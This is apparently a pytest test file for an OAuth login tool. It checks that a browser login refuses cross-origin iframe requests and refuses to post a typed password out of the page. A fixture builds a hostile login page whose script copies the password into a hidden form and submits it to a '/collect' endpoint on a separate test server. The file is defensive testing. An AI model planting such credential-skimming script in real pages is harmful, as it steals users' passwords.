"""A login page's frames, under the browser method: an <iframe> of another origin (a reCAPTCHA-style
widget) that the page loads before the password is typed is a request like any other of the page,
listed and refused, not the browser sent away from the issuer; what the page sends into it once
the password is typed is refused as any request elsewhere is, naming the password it carried."""

import os

import pytest
from faulty_servers import Answer, HostileServer
from run import write_environment

from suite.configuration.environment import load_environment
from suite.wire.browser import chromium_path
from suite.wire.http import HttpClient, UntrustedEndpoint

pytestmark = pytest.mark.skipif(
    chromium_path() is None and not os.environ.get("CI"), reason="needs Debian's chromium; CI installs it"
)

CALLBACK = "https://app.example/callback"
PASSWORD = "frame-pw 7%41+é"


def _login_page(frame_url: str, into_frame: bool) -> bytes:
    """A login form whose submission goes to the callback; with an <iframe> of `frame_url` in it, and,
    `into_frame`, a second form a script fills with the password and posts into that frame."""
    steal = (
        f'<form id="into" method="post" action="{frame_url}/collect" target="widget"><input type="hidden" '
        'name="p" id="p2"></form><script>document.getElementById("login").addEventListener("submit", () => {'
        'document.getElementById("p2").value = document.getElementById("password").value;'
        'document.getElementById("into").submit(); });</script>'
        if into_frame
        else ""
    )
    return (
        f'<!doctype html><title>Sign in</title><iframe name="widget" src="{frame_url}/frame"></iframe>'
        f'<form id="login" onsubmit="event.preventDefault(); setTimeout(() => location.href = \'{CALLBACK}?code=c\', '
        '300)"><input id="password" type="password"><button id="go">go</button></form>' + steal
    ).encode()


def _sign_in(tmp_path, frame: HostileServer, into_frame: bool, expected: bool):
    from suite.wire.login.browser import BrowserLogin, close_browser

    server = HostileServer(
        {"/connect/authorize": Answer(200, {"Content-Type": "text/html"}, _login_page(frame.url, into_frame))}
    )
    text = (
        f"name: frames\nissuer: {server.url}\nclients:\n  spa:\n    client_id: spa\n    redirect_uri: {CALLBACK}\n"
        "    scope: openid\nlogin:\n  method: browser\n  username: test.user\n  password: ${T_PASSWORD}\n"
        "  browser:\n    timeout: 5\n"
        + (f'    expected_elsewhere: ["{frame.url}"]\n' if expected else "")
        + '    pages:\n      - url: /connect/authorize\n        actions:\n          - fill: "#password"\n'
        '            value: "{password}"\n          - click: "#go"\n'
    )
    environment = load_environment(str(write_environment(tmp_path, text)), {"T_PASSWORD": PASSWORD})
    try:
        return BrowserLogin(environment, HttpClient(environment.http)).authorize(
            f"{server.url}/connect/authorize", CALLBACK
        )
    except UntrustedEndpoint as refusal:
        return refusal
    finally:
        close_browser()
        server.close()


@pytest.mark.parametrize("expected", [True, False], ids=["expected-elsewhere", "not-listed"])
def test_a_frame_of_another_origin_loaded_before_the_password_is_typed_is_no_redirect_away(tmp_path, expected):
    """It failed AUTH-01 as "the browser was sent away from the issuer, to .../frame", even with its
    origin in login.browser.expected_elsewhere (a stylesheet of that origin passed)."""
    frame = HostileServer({})
    try:
        outcome = _sign_in(tmp_path, frame, into_frame=False, expected=expected)
    finally:
        frame.close()
    assert not isinstance(outcome, Exception) and outcome.kind == "callback", outcome
    assert frame.requests == []  # refused all the same: listed, never sent


@pytest.mark.parametrize("expected", [True, False], ids=["expected-elsewhere", "not-listed"])
def test_the_password_posted_into_that_frame_is_refused_naming_the_password(tmp_path, expected):
    """A form posted into the frame once the password is typed (`<form target>`) is refused whatever
    the environment expects of that origin, and the refusal names the password's POST, not the
    frame's earlier load."""
    frame = HostileServer({})
    try:
        outcome = _sign_in(tmp_path, frame, into_frame=True, expected=expected)
    finally:
        frame.close()
    assert isinstance(outcome, UntrustedEndpoint), outcome
    assert f"refused to send password in POST {frame.url}/collect" in str(outcome), outcome
    assert PASSWORD not in str(outcome)
    assert frame.requests == []
